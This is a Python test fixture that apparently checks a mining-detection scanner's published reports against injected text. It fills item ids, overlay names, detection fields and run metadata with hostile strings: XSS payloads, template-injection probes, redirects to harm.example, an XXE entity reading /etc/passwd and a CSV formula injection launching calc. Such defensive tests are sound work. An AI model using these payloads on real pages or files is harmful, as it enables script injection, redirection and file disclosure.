"""A finished run in which every text that can come from outside would harm a page, if it could."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import geopandas as gpd
import shapely

from scanner.config import ReportConfig
from scanner.imagery.item import Item
from scanner.results.finished import FinishedRun, open_run
from scanner.results.outputs import sha256
from scanner.results.publish import publish
from tests.evidence_runs import DAYS, FIRST_MINED, SITE, scene, with_items
from tests.raster_runs import rule_rasters
from tests.results.runs import TILE, area, make_run

RAN = "window.__ran=(window.__ran||0)+1"
PIECES = {
    "script": f"<script>{RAN}</script>",
    "template": "{{7*7}} {%for x in ()%} ${7*7} <%= 7*7 %> #{7*7}",
    "end of script": f"</script><script>{RAN}</script>",
    "image": f"<img src=x onerror={RAN}>",
    "drawing": f"<svg onload={RAN}><animate onbegin={RAN} attributeName=x dur=1s>",
    "quotes": f'"\' onmouseover=\'{RAN}\' onfocus="{RAN}" autofocus x="',
    "backtick": f"`;{RAN};`${{{RAN}}}",
    "address": f'<a href="javascript:{RAN}">here</a> javascript:{RAN}//',
    "frame": f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    "form": '<form action="https://harm.example"><input autofocus onfocus=1></form>',
    "base": '<base href="https://harm.example/"><link rel=stylesheet href=//harm.example/a.css>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://harm.example/">',
    "style": "<style>*{display:none!important}</style>",
    "comment": "--> <!-- ]]> <![CDATA[ <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e;",
    "formula": '=cmd|" /C calc"!A0',
}
"""What is tried, by what it tries."""
HOSTILE = " ".join(PIECES.values())


def hostile_run(folder: Path) -> FinishedRun:
    """Scan nothing; write a run with rasters, scenes, overlays and every page of it."""
    items = []
    for index, day in enumerate(DAYS):
        made = scene(folder, day, mined=index >= FIRST_MINED)
        name = " ".join([*PIECES.values()][index :: len(DAYS)])  # an id may have 300 characters
        items.append(Item(made.raw | {"id": name, "collection": HOSTILE}))
    rasters = {TILE.tile_id: rule_rasters(TILE)}
    run = make_run(
        folder / "run", SITE, aoi=area(name=HOSTILE), days=DAYS, rasters=rasters, lang="en"
    )
    run = _told(with_items(run, items))
    overlays = tuple(_overlay(folder, piece, n) for n, piece in enumerate(PIECES.values()))
    publish(run, ReportConfig(also=("gpkg", "kml", "gpx", "csv"), overlay=overlays))
    return open_run(run.path)


def _overlay(folder: Path, text: str, number: int) -> Path:
    """A file whose name and whose feature's name are hostile, over the run's area."""
    name = f"{number} {text}".replace("/", "\u2215").encode()[:200].decode(errors="ignore")
    west, south, east, north = area().geometry.bounds
    box = shapely.box(west - 0.01, south - 0.01, east + 0.01, north + 0.01)
    feature = {
        "type": "Feature",
        "properties": {"name": f"{text} {number}", "presumed_illegal": text},
        "geometry": shapely.geometry.mapping(box),
    }
    path = folder / f"{name}.geojson"
    path.write_text(json.dumps(feature), encoding="utf-8")
    return path


def _told(run: FinishedRun) -> FinishedRun:
    """Put hostile text where a run tells of scenes and tiles, signed as if always there."""
    path = run.path
    sites = gpd.read_parquet(path / "detections.parquet")
    sites["segmenter"] = sites["classifier"] = HOSTILE
    sites.to_parquet(path / "detections.parquet")
    cover = gpd.read_parquet(path / "coverage.parquet")
    cover["reason"], cover["unseen_ha"] = HOSTILE, 23.04
    cover.to_parquet(path / "coverage.parquet")
    summary: dict[str, Any] = json.loads((path / "run.json").read_text(encoding="utf-8"))
    summary["dropped_items"] = [{"id": HOSTILE, "reason": HOSTILE}]
    summary["advice"] = HOSTILE
    summary["models"] = {"segmenter": HOSTILE, "classifier": HOSTILE}
    summary["items_without_scl"] = [HOSTILE]
    summary["superseded_items"] = [HOSTILE]
    summary["files"] = {name: sha256(path / name) for name in summary["files"]}
    (path / "run.json").write_text(json.dumps(summary), encoding="utf-8")
    return open_run(path)
